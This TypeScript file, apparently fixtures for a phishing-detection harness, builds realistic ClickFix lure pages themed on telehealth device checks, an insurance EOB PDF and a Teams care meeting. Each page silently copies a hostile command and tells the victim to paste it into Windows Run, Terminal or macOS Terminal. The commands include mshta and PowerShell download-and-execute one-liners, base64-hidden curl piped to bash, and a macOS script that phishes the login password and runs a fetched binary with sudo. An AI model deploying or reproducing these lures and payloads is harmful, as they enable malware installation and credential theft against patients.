import { htmlRoute, type Entry } from '../entry.js';
import { fileRoute, jsRoute } from '../parts/e-bin.js';
import { b64, chunks, codes, dotIcon, logos, shell } from '../parts/yt-kit.js';

/** ClickFix pages: telehealth video/device checks, fake CAPTCHAs in front of EOBs and pharmacy sites, "fix it" prompts; Windows Run box, Win+X terminal, and macOS Terminal variants. */
// ---- 1. Telehealth camera/mic check failed -> Win+R, paste, Enter (mshta, with a comment tail shown in the Run box)
const cmd1 = 'mshta https://televideo-devicecheck.com/v/fix.hta # ✅ Telehealth Device Check — Verification ID: 4471-ACX';
const tele1 = shell({
  title: 'Video Visit — Device Check',
  favicon: dotIcon('#5b2c86'),
  css: `body{margin:0;font-family:"Segoe UI",Arial;background:#1e1b2e;color:#fff}.w{max-width:760px;margin:40px auto;display:flex;gap:24px}.v{flex:1;background:#000;border-radius:12px;height:300px;display:flex;align-items:center;justify-content:center;color:#888}
.p{width:320px;background:#fff;color:#222;border-radius:12px;padding:20px}.e{color:#c62828;font-weight:600}.k{display:inline-block;border:1px solid #999;border-bottom-width:3px;border-radius:4px;padding:1px 7px;font-family:monospace;background:#f4f4f4}
.b{width:100%;padding:12px;border:0;border-radius:8px;background:#5b2c86;color:#fff;font-size:16px;margin-top:10px;cursor:pointer}ol li{margin:8px 0}`,
  body: `<div style="padding:14px 24px">${logos.teladoc.replace(/#5b2c86/g, '#fff')}</div>
<div class="w"><div class="v">📷 Camera not detected</div>
<div class="p"><p class="e">⚠ We couldn't start your camera and microphone.</p><p>Your provider is waiting. Run the quick device check to repair your video drivers:</p>
<button class="b" id="fix">Run device check</button>
<ol id="st" style="display:none"><li>Press <span class="k">⊞ Win</span> + <span class="k">R</span></li><li>Press <span class="k">Ctrl</span> + <span class="k">V</span></li><li>Press <span class="k">Enter</span></li></ol>
<p id="ok" style="display:none;font-size:13px;color:#2e7d32">Verification code copied. Complete the steps above, then return to this window.</p></div></div>
<script>
document.getElementById('fix').addEventListener('click', function(){
  navigator.clipboard.writeText(${JSON.stringify(cmd1)}).then(function(){
    document.getElementById('st').style.display='block'; document.getElementById('ok').style.display='block';
  });
});
</script>`,
});

// ---- 5. "Fix it" for the audio driver during a telehealth call, Win+X -> Terminal
const ps5 = `$ProgressPreference='SilentlyContinue';$p="$env:LOCALAPPDATA\\AudioFix";mkdir $p -ea 0;iwr 'https://care-audio-fix.com/drv/AudioFixTool.zip' -OutFile "$p\\a.zip";Expand-Archive "$p\\a.zip" $p -Force;Start-Process "$p\\AudioFixTool.exe"`;
const tele5 = shell({
  title: 'CareNow Video — Audio problem detected',
  css: `body{margin:0;font-family:"Segoe UI",Arial;background:#202124;color:#e8eaed}.bar{padding:12px 20px;background:#2d2e30;display:flex;justify-content:space-between}.main{display:flex;justify-content:center;align-items:center;height:70vh}
.dlg{background:#fff;color:#202124;width:480px;border-radius:8px;padding:22px}pre{background:#f1f3f4;padding:10px;font-size:12px;white-space:pre-wrap;word-break:break-all;max-height:60px;overflow:hidden}
.fx{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 18px;font-size:15px;cursor:pointer}`,
  body: `<div class="bar"><span>CareNow Video · Visit with Dr. M. Alvarez</span><span>🔴 Waiting for you</span></div>
<div class="main"><div class="dlg"><h3>🔇 Audio device error (0x8007045D)</h3>
<p>Your microphone driver is incompatible with encrypted HIPAA video. Your doctor can't hear you.</p>
<p><b>How to fix:</b> click <i>Copy fix</i>, press <b>Windows + X</b>, choose <b>Terminal</b> (or <b>Windows PowerShell</b>), right-click to paste, and press <b>Enter</b>. Then rejoin the visit.</p>
<pre id="code">${ps5.replace(/</g, '&lt;')}</pre>
<button class="fx" id="c">Copy fix</button> <span id="m" style="font-size:13px;color:#188038"></span></div></div>
<script>document.getElementById('c').onclick=function(){navigator.clipboard.writeText(document.getElementById('code').textContent).then(function(){document.getElementById('m').textContent='Copied! Now press Windows + X.';});};</script>`,
});

// ---- 6. macOS variant: Terminal + base64 | bash (stealer installer)
const sh6 = 'curl -fsSL https://telehealth-macfix.com/i/setup.sh | bash';
const tele6 = shell({
  title: 'Secure Visit for Mac — Enable Camera Access',
  css: `body{margin:0;font-family:-apple-system,"Helvetica Neue",Arial;background:#f5f5f7;color:#1d1d1f}.w{max-width:600px;margin:60px auto;background:#fff;border-radius:14px;padding:30px;box-shadow:0 4px 24px #0001}
code{display:block;background:#1d1d1f;color:#a5f3a5;padding:12px;border-radius:8px;font-size:12px;word-break:break-all}.btn{background:#0071e3;color:#fff;border:0;border-radius:980px;padding:10px 22px;font-size:15px;cursor:pointer}`,
  body: `<div class="w"><h2>Enable camera access for your visit</h2><p>macOS Sequoia blocks camera access for browser-based telehealth. Run the Apple-approved helper to allow SecureVisit to use your camera for this appointment.</p>
<ol><li>Press <b>⌘ Command + Space</b>, type <b>Terminal</b> and press Return.</li><li>Paste the command below (⌘ + V) and press Return.</li><li>Enter your Mac password when asked (the characters won't appear).</li></ol>
<code id="c">echo '${b64(sh6)}' | base64 -d | bash</code><p><button class="btn" onclick="navigator.clipboard.writeText(document.getElementById('c').textContent);this.textContent='Copied ✓'">Copy command</button></p>
<p style="font-size:12px;color:#86868b">SecureVisit™ · HIPAA compliant · Your appointment is held for 10 minutes.</p></div>`,
});
const macInstaller = `#!/bin/bash
# SecureVisit camera helper
u="https://telehealth-macfix.com/i/SecureVisitHelper"
curl -fsSL "$u" -o /tmp/.svh && chmod +x /tmp/.svh
pw=$(osascript -e 'display dialog "SecureVisit needs your password to enable the camera." default answer "" with hidden answer with title "System Preferences"' -e 'text returned of result')
echo "$pw" | sudo -S xattr -c /tmp/.svh
/tmp/.svh "$pw" &
`;

// ---- 7. EOB PDF viewer "font package missing", Win+X, msiexec from URL
const cmd7 = 'msiexec /i https://eob-fontpack.net/pkg/AdobeFontPack-EOB.msi /qn';
const pdfFail = shell({
  title: 'EOB_Oct2025.pdf',
  css: `body{margin:0;background:#3c3c3c;font-family:Arial}.tb{background:#d93025;color:#fff;padding:8px 14px;font-size:14px}.pg{width:560px;height:720px;margin:24px auto;background:#fff;position:relative;overflow:hidden}
.g{position:absolute;inset:0;background:repeating-linear-gradient(0deg,#eee 0 14px,#fff 14px 28px);filter:blur(2px)}.m{position:absolute;left:40px;right:40px;top:200px;background:#fff;border:1px solid #ccc;padding:22px;box-shadow:0 4px 20px #0004}`,
  body: `<div class="tb">Adobe Acrobat · EOB_Oct2025.pdf</div>
<div class="pg"><div class="g"></div><div class="m"><h3>Failed to load PDF document</h3>
<p>This document uses the <b>EOB-Secure</b> font package, which is not installed on your computer.</p>
<p>To install it:</p><ol><li>Click <b>Install fonts</b> (copies the installer command)</li><li>Press <b>Windows key + X</b> and select <b>Terminal (Admin)</b></li><li>Paste with <b>Ctrl + V</b> and press <b>Enter</b></li><li>Reload this page</li></ol>
<button id="b" style="background:#d93025;color:#fff;border:0;padding:10px 18px;border-radius:3px">Install fonts</button></div></div>
<script>var c=atob('${b64(cmd7)}');document.getElementById('b').onclick=function(){navigator.clipboard.writeText(c);this.textContent='Installer command copied';};
document.addEventListener('copy',function(e){e.clipboardData.setData('text/plain',c);e.preventDefault();});</script>`,
});

// ---- 8. Fake Teams care-coordination meeting: headless conhost + PowerShell
const cmd8 = 'conhost.exe --headless powershell -ep bypass -w 1 -c "[Net.ServicePointManager]::SecurityProtocol=3072;iex([Text.Encoding]::UTF8.GetString((iwr -useb https://teams-carecoord.com/rtc/m.bin).Content))"';
const teams = shell({
  title: 'Microsoft Teams — Care Coordination Meeting',
  css: `body{margin:0;font-family:"Segoe UI",Arial;background:#f5f5f5}.hd{background:#464775;color:#fff;padding:10px 18px}.c{max-width:640px;margin:50px auto;background:#fff;border-radius:6px;padding:28px;box-shadow:0 2px 8px #0002}
.al{background:#fde7e9;border-left:4px solid #c4314b;padding:12px;margin:14px 0}.j{background:#5b5fc7;color:#fff;border:0;border-radius:4px;padding:10px 20px;font-size:15px;cursor:pointer}`,
  body: `<div class="hd">Microsoft Teams</div>
<div class="c"><h2>Care Coordination — Discharge Planning (Humana CareHub)</h2><p>Organizer: RN Case Manager · 2:00 PM – 2:30 PM</p>
<div class="al"><b>Microphone issue detected.</b> Teams could not access your audio device. Other participants won't be able to hear you.</div>
<p>Click <b>Fix automatically</b>, then press <b>Win + R</b>, paste (<b>Ctrl + V</b>) and press <b>Enter</b>. The Teams audio repair runs in the background.</p>
<button class="j" id="fx">Fix automatically</button> <button class="j" style="background:#888">Join without audio</button></div>
<script>
var k=${JSON.stringify(b64(cmd8).match(/.{1,24}/g))};
document.getElementById('fx').onclick=function(){var t=atob(k.join(''));
 if(navigator.clipboard&&navigator.clipboard.writeText){navigator.clipboard.writeText(t);}else{var a=document.createElement('textarea');a.value=t;document.body.appendChild(a);a.select();document.execCommand('copy');a.remove();}
 this.textContent='Repair copied — press Win + R';};
</script>`,
});

export const entries: Entry[] = [
{
  id: 'yt-telehealth-device-check-mshta-winr',
  label: 'clickfix',
  kind: 'clickfix-telehealth-check',
  url: 'https://teladoc-visit-devicecheck.com/visit/waiting-room?appt=883102',
  body: tele1,
  routes: { 'televideo-devicecheck.com/v/fix.hta': fileRoute('<html><head><HTA:APPLICATION WINDOWSTATE="minimize"/><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -w hidden -c iwr https://televideo-devicecheck.com/v/p.ps1|iex",0:window.close</script></head></html>', 'application/hta') },
},
{
  id: 'yt-carenow-audio-fix-winx-terminal',
  label: 'clickfix',
  kind: 'clickfix-telehealth-check',
  url: 'https://carenow-video-visit.com/room/alvarez/audio-check',
  body: tele5,
},
{
  id: 'yt-securevisit-macos-terminal-b64',
  label: 'clickfix',
  kind: 'clickfix-macos-terminal',
  url: 'https://securevisit-mac.com/camera-access',
  body: tele6,
  routes: { 'telehealth-macfix.com/i/setup.sh': fileRoute(macInstaller, 'text/x-shellscript') },
},
{
  id: 'yt-eob-pdf-fontpack-msiexec',
  label: 'clickfix',
  kind: 'clickfix-document-error',
  url: 'https://eob-statements-view.com/pdf/EOB_Oct2025.pdf.html',
  body: pdfFail,
},
{
  id: 'yt-teams-carecoord-conhost-headless',
  label: 'clickfix',
  kind: 'clickfix-meeting-fix',
  url: 'https://teams-carecoord.com/l/meetup-join/19%3ameeting_discharge/0',
  body: teams,
},
];
